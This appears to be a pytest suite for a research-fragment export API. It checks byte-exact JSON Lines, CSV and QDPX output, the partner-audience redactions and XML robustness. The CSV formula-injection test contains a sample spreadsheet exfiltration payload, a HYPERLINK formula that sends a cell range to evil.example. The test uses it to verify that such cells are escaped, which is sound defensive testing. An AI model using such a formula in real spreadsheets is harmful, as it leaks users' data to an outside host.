"""The exports' bytes, pinned: each line and field as the plain way (a dict through json.dumps, a row through
csv.writer, ElementTree's reading of the .qdpx) would have them, worked out here from what the API shows. The
export puts its output together from pre-encoded parts for speed; these tests hold it to the plain format."""

import csv
import io
import json
import uuid
import xml.etree.ElementTree as ET
import zipfile
from typing import Any

import pytest
from sqlmodel import Session

from api.export import service
from tests.factories import World, bearer, consent_item, conversation_item, fragment_item, make_world, sync

NS = {"q": "urn:QDA-XML:project:1.0"}
AWKWARD = 'She said "no", then \'yes\'; a comma, a tab\there,\na new line, naïve “curly” — 🎧 & <b> \\ end'
PLACE = "The \"Crown\" & 'Anchor'\nby the quay"


@pytest.fixture
def world(session: Session) -> World:
    return make_world(session)


def _capture(client, world: World) -> dict[str, Any]:
    """Fragments that exercise every field: awkward text, answers, sensitive, no place or prompt, a place whose
    name holds both quotes, several tags with awkward names, two participants."""
    h = world.headers("coordinator")
    quay = client.post(f"/api/v1/projects/{world.project.id}/places", json={"name": PLACE}, headers=h).json()
    tags = [client.post(f"/api/v1/projects/{world.project.id}/tags", json={"name": name}, headers=h).json()
            for name in ("Zoë's \"place\"", "alpha, beta", "Ärger")]
    one, two = conversation_item(world), conversation_item(world, place_id=quay["id"])
    nowhere = conversation_item(world, place_id=None)
    first, second = consent_item(world, one["id"], participant_label="P-4KQ7"), consent_item(
        world, two["id"], participant_label="P-X9")
    third = consent_item(world, nowhere["id"], participant_label="P-Q2")
    frags = [
        fragment_item(one["id"], first["id"], text=AWKWARD, answers={"belong": 40, "mood": "mixed"},
                      sensitive=True, prompt_id=str(world.prompts[0].id)),
        fragment_item(one["id"], first["id"], kind="paraphrase", text="plain words"),
        fragment_item(two["id"], second["id"], kind="observation", text="by the quay", language="cy"),
        fragment_item(nowhere["id"], third["id"], text="no place, no prompt"),
    ]
    assert all(r["status"] == "created" for r in sync(client, world, [one, two, nowhere, first, second, third,
                                                                       *frags]).json()["results"])
    for f, tagged in zip(frags, ([0, 1, 2], [], [1], [2]), strict=True):
        for i in tagged:
            assert client.put(f"/api/v1/fragments/{f['id']}/tags/{tags[i]['id']}", headers=h).status_code == 204
    return {"labels": {first["id"]: "P-4KQ7", second["id"]: "P-X9", third["id"]: "P-Q2"},
            "tags": {t["id"]: t["name"] for t in tags} | {str(world.tag.id): world.tag.name},
            "places": {str(p.id): p.name for p in world.places} | {quay["id"]: PLACE},
            "prompts": {str(p.id): p.text for p in world.prompts}, "ids": [f["id"] for f in frags]}


def _expected_records(client, world: World, known: dict[str, Any], labels: bool = True) -> list[dict[str, Any]]:
    shown = [client.get(f"/api/v1/fragments/{fid}", headers=world.headers("coordinator")).json()
             for fid in known["ids"]]
    shown.sort(key=lambda f: (f["captured_at"], f["id"]))
    return [{"id": f["id"], "captured_at": f["captured_at"].replace("Z", "+00:00"),
             "place": known["places"].get(f["place_id"]), "prompt": known["prompts"].get(f["prompt_id"]),
             "kind": f["kind"], "language": f["language"], "text": f["text"], "sensitive": f["sensitive"],
             "tags": sorted(known["tags"][t] for t in f["tag_ids"]), "answers": f["answers"],
             "conversation_id": f["conversation_id"], "consent_id": f["consent_id"],
             "participant_label": known["labels"][f["consent_id"]] if labels else None} for f in shown]


def test_json_lines_are_byte_for_byte_json_dumps_of_each_record(client, world) -> None:
    known = _capture(client, world)
    records = _expected_records(client, world, known)
    # Every awkward case is there: no place, a place with both quotes, answers, no prompt, tags, sensitive.
    assert {r["place"] for r in records} >= {None, PLACE} and {r["prompt"] for r in records} > {None}
    assert any(r["answers"] for r in records) and any(r["sensitive"] for r in records)
    assert max(len(r["tags"]) for r in records) == 3
    expected = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)
    r = client.get(f"/api/v1/projects/{world.project.id}/export/fragments.jsonl",
                   headers=world.headers("coordinator"))
    assert r.text == expected
    # A partner tool's export: the same lines, without participant labels, and without what is flagged sensitive.
    token = client.post(f"/api/v1/projects/{world.project.id}/clients", headers=world.headers("coordinator"),
                        json={"name": "council", "scopes": ["export"], "audience": "partner"}).json()["token"]
    partner = client.get(f"/api/v1/projects/{world.project.id}/export/fragments.jsonl", headers=bearer(token))
    assert partner.text == "".join(json.dumps(r, ensure_ascii=False) + "\n"
                                   for r in _expected_records(client, world, known, labels=False)
                                   if not r["sensitive"])


def test_csv_is_byte_for_byte_what_csv_writer_makes_of_each_row(client, world) -> None:
    known = _capture(client, world)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(service.CSV_COLUMNS)
    for rec in _expected_records(client, world, known):
        writer.writerow([rec["id"], rec["captured_at"], rec["place"], rec["prompt"], rec["kind"], rec["language"],
                         rec["text"], rec["sensitive"], "; ".join(rec["tags"]),
                         json.dumps(rec["answers"], ensure_ascii=False) if rec["answers"] else "",
                         rec["conversation_id"], rec["consent_id"], rec["participant_label"]])
    r = client.get(f"/api/v1/projects/{world.project.id}/export/fragments.csv", headers=world.headers("coordinator"))
    assert r.content == ("\ufeff" + out.getvalue()).encode()


def test_qdpx_sources_carry_each_fragment_as_the_plain_way_would(client, world) -> None:
    known = _capture(client, world)
    r = client.get(f"/api/v1/projects/{world.project.id}/export/project.qdpx", headers=world.headers("coordinator"))
    root = ET.fromstring(zipfile.ZipFile(io.BytesIO(r.content)).read("project.qde"))
    sources = root.findall("q:Sources/q:TextSource", NS)
    records = _expected_records(client, world, known)
    assert [s.get("guid") for s in sources] == [rec["id"] for rec in records]
    for source, rec in zip(sources, records, strict=True):
        when = rec["captured_at"][:19] + "Z"
        assert source.get("name") == f"{when[:10]} {rec['place'] or 'no place'} ({rec['kind']})"
        assert source.get("creationDateTime") == when
        description = source.find("q:Description", NS)
        assert (description.text if description is not None else None) == rec["prompt"]
        assert source.find("q:PlainTextContent", NS).text == rec["text"]
        selection = source.find("q:PlainTextSelection", NS)
        if not rec["tags"]:
            assert selection is None
            continue
        fid = uuid.UUID(rec["id"])
        assert selection.get("guid") == str(uuid.uuid5(fid, "selection"))
        assert selection.get("endPosition") == str(len(rec["text"]))
        by_name = {name: tid for tid, name in known["tags"].items()}
        codes = sorted(by_name[name] for name in rec["tags"])
        assert [(c.get("guid"), c.find("q:CodeRef", NS).get("targetGUID")) for c in selection] == [
            (str(uuid.uuid5(fid, code)), code) for code in codes]


def test_uuid5_without_uuid_objects_is_uuid5() -> None:
    for _ in range(200):
        namespace, name = uuid.uuid4(), str(uuid.uuid4())
        assert service._uuid5(namespace.bytes, name) == str(uuid.uuid5(namespace, name))
    assert service._uuid5(uuid.NAMESPACE_URL.bytes, "selection") == str(uuid.uuid5(uuid.NAMESPACE_URL, "selection"))


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(client, world) -> None:
    """A researcher's text, a place or a tag beginning with = + - @ (or a tab) gets an apostrophe in the CSV, so a
    coordinator's spreadsheet shows it rather than running it; JSON Lines keeps the words exactly."""
    h = world.headers("coordinator")
    attack = '=HYPERLINK("https://evil.example/?"&G2:G9000,"more")'
    place = client.post(f"/api/v1/projects/{world.project.id}/places", json={"name": "+44 Quay Road"},
                        headers=h).json()
    tag = client.post(f"/api/v1/projects/{world.project.id}/tags", json={"name": "@home"}, headers=h).json()
    conv = conversation_item(world, place_id=place["id"])
    consent = consent_item(world, conv["id"])
    texts = [attack, "-1 for the bus", "\tindented", "a plain = sign inside"]
    frags = [fragment_item(conv["id"], consent["id"], text=t) for t in texts]
    assert all(r["status"] == "created" for r in sync(client, world, [conv, consent, *frags]).json()["results"])
    assert client.put(f"/api/v1/fragments/{frags[0]['id']}/tags/{tag['id']}", headers=h).status_code == 204

    r = client.get(f"/api/v1/projects/{world.project.id}/export/fragments.csv", headers=h)
    header, *rows = csv.reader(io.StringIO(r.content.decode("utf-8-sig")))
    col = {name: i for i, name in enumerate(header)}
    by_text = {row[col["text"]]: row for row in rows}
    assert set(by_text) == {"'" + t for t in texts[:3]} | {texts[3]}
    first = by_text["'" + attack]
    assert (first[col["place"]], first[col["tags"]]) == ("'+44 Quay Road", "'@home")
    lines = client.get(f"/api/v1/projects/{world.project.id}/export/fragments.jsonl", headers=h).text.splitlines()
    assert {json.loads(line)["text"] for line in lines} == set(texts)


def test_qdpx_carries_carriage_returns_exactly_and_stays_readable_whatever_a_memo_holds(client, world,
                                                                                          session) -> None:
    """A parser reads a literal carriage return as a line feed (the words, and the selection's end, would differ),
    and one character XML cannot hold (a board note kept from before the rule) made every later .qdpx unreadable."""
    from api.memos.models import Memo

    conv = conversation_item(world)
    consent = consent_item(world, conv["id"])
    text = "first line\r\nsecond 😀 مرحبا\rthird"
    fragment = fragment_item(conv["id"], consent["id"], text=text)
    sync(client, world, [conv, consent, fragment])
    h = world.headers("coordinator")
    assert client.put(f"/api/v1/fragments/{fragment['id']}/tags/{world.tag.id}", headers=h).status_code == 204
    session.add(Memo(project_id=world.project.id, text="hi\x0b\x1b[2Jthere", created_by=world.coordinator.id))
    session.commit()
    r = client.get(f"/api/v1/projects/{world.project.id}/export/project.qdpx", headers=h)
    root = ET.fromstring(zipfile.ZipFile(io.BytesIO(r.content)).read("project.qde"))
    source = root.find("q:Sources/q:TextSource", NS)
    assert source.find("q:PlainTextContent", NS).text == text
    assert source.find("q:PlainTextSelection", NS).get("endPosition") == str(len(text))
    assert root.find("q:Notes/q:Note/q:PlainTextContent", NS).text == "hi\ufffd\ufffd[2Jthere"


def test_a_qdpx_for_another_audience_names_no_researcher(client, world) -> None:
    """CSV and JSON Lines carry no researcher; a partner's .qdpx listed each as a User and marked every source
    with who heard it (creatingUser). The team's keeps them."""
    conv = conversation_item(world)
    consent = consent_item(world, conv["id"], scopes=["quote", "share"])
    sync(client, world, [conv, consent, fragment_item(conv["id"], consent["id"], text="shared words")])
    h = world.headers("coordinator")
    token = client.post(f"/api/v1/projects/{world.project.id}/clients", headers=h, json={
        "name": "council", "scopes": ["export"], "audience": "partner"}).json()["token"]
    path = f"/api/v1/projects/{world.project.id}/export/project.qdpx"

    def qde(headers: dict[str, str]) -> str:
        return zipfile.ZipFile(io.BytesIO(client.get(path, headers=headers).content)).read("project.qde").decode()

    assert str(world.researcher.id) not in qde(bearer(token)) and "creatingUser=" not in qde(bearer(token))
    assert str(world.researcher.id) in qde(h)
